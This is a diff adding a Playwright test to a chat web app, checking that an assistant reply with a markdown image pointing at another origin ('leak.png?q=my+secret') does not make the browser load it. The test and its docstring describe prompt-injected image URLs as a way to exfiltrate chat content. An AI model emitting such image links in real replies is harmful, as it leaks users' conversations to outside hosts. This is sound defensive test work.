@@ -7,6 +7,7 @@ browser context, so its own session (a new visitor). Screenshots go to
 
 from __future__ import annotations
 
+import base64
 import json
 import re
 import time
@@ -16,6 +17,7 @@ import pytest
 from playwright.sync_api import Page, expect
 
 from gateway.models import RequestLog
+from tests.conftest import LiveServer
 from tests.webapp.chat.deployment import start_deployment
 from webapp.chat import free_tier
 from webapp.models import Conversation, Message
@@ -238,6 +240,48 @@ def test_reply_with_script_is_shown_as_text(chat_app, chat: Page):
     title = Conversation.select().order_by(Conversation.id.desc()).first()
     assert title.title.startswith("<b>not bold</b>")
     expect(chat.locator("#chat-title")).to_contain_text("<b>not bold</b>")
+
+
+@pytest.fixture
+def other_site():
+    """A server on another origin that records every request it gets."""
+    from starlette.applications import Starlette
+    from starlette.responses import Response
+    from starlette.routing import Route
+
+    hits: list[str] = []
+
+    async def anything(request):
+        hits.append(str(request.url))
+        return Response(PIXEL, media_type="image/png")
+
+    server = LiveServer(Starlette(routes=[Route("/{path:path}", anything)])).start()
+    server.hits = hits
+    yield server
+    server.stop()
+
+
+PIXEL = base64.b64decode("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==")
+
+
+def test_a_reply_cannot_make_the_browser_call_another_site(chat_app, chat: Page, other_site):
+    """A prompt-injected image URL would carry the chat away the moment the reply shows."""
+    elsewhere: list[str] = []
+    chat.on("request", lambda r: elsewhere.append(r.url) if r.url.startswith(other_site.url) else None)
+    dot = "data:image/png;base64," + base64.b64encode(PIXEL).decode()
+    chat_app.upstream.replies.append(f"Noted. ![chart]({other_site.url}/leak.png?q=my+secret) ![dot]({dot})")
+    send(chat, "my secret")
+    reply = last_reply(chat)
+    expect(reply.locator("button.stop")).to_have_count(0, timeout=15_000)
+    chat.wait_for_load_state("networkidle")
+    assert other_site.hits == [] and elsewhere == []
+    expect(reply.locator(f'a[href^="{other_site.url}"]')).to_have_text("chart")
+    expect(reply.locator('img[alt="dot"]')).to_have_count(1)
+    assert chat.evaluate("() => document.querySelector('img[alt=dot]').naturalWidth") == 1  # data: images show
+    chat.reload()
+    expect(last_reply(chat).locator(f'a[href^="{other_site.url}"]')).to_have_text("chart")
+    chat.wait_for_load_state("networkidle")
+    assert other_site.hits == [] and elsewhere == []
 
 
 def test_export_and_import(chat_app, chat: Page, browser, tmp_path):
